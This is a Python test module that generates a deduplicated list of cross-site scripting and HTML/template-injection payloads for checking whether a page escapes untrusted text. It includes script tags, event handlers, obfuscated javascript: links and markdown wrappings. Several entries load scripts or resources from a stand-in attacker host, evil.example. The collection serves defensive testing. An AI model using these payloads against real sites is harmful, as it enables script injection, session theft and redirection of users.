"""Texts that would run a script, load a foreign picture or break out of where they stand, on a page that does not escape them.

Made from what can be broken out of, what carries a script, and ways to hide either. A script calls `hit()`: the test listens.
"""

from html import escape
from itertools import product
from urllib.parse import quote

BREAKS = ("", '">', "'>", "</textarea>", "</title>", "--></script>", '"', "' ", "`", "]]>", "\\", "{{7*7}}", "</svg>", "&#34;>")
CARRIERS = (
    "<script>hit()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=hit()>",
    "<img src=//evil.example/x.png>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=//evil.example/x></object>",
    "<style>@import'//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>",
    "<p style=background:url(//evil.example/x)>x",
    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<math><mtext><img src=x onerror=hit()>",
)
HANDLERS = (
    'onmouseover=hit() x="',
    "autofocus onfocus=hit() x='",
    'onload=hit() y="',
    "style=background:url(//evil.example) z='",
)
LINKS = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "\x01javascript:hit()",
    "\u2000javascript:hit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    "data:text/html,<script>parent.hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "vbscript:hit()",
    "//evil.example/",
    "https:/evil.example",
)
WRAPPED = (
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    '<a href="{}">x</a>',
    "[x](<{}>)",
    '[x](https://ok.example "{}")',
    "{}",
)
HIDDEN = (
    lambda text: text.upper(),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    escape,
    quote,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("script", "scr<script>ipt"),
    lambda text: "`" + text + "`",
    lambda text: "    " + text,
    lambda text: "> " + text,
    lambda text: "- " + text,
    lambda text: "\u202e" + text,
)
TEMPLATES = (
    "{{ config }}",
    "{{ ''.__class__ }}",
    "{% raw %}<img src=x onerror=hit()>{% endraw %}",
    "${hit()}",
    "#{hit()}",
    "<%= hit() %>",
    "%(name)s<img src=x onerror=hit()>",
)


def all_vectors() -> list[str]:
    """Over 400 texts, each once, the plainest first."""
    made = [*CARRIERS]
    made += [before + carrier for before, carrier in product(BREAKS[1:], CARRIERS[:3] + CARRIERS[4:5] + CARRIERS[9:10])]
    made += [before + handler for before, handler in product(('"', "'", '" ', "' ", "x "), HANDLERS)]
    made += [wrapping.format(link) for wrapping, link in product(WRAPPED, LINKS)]
    made += [hide(carrier) for hide, carrier in product(HIDDEN, CARRIERS)]
    made += TEMPLATES
    return list(dict.fromkeys(made))
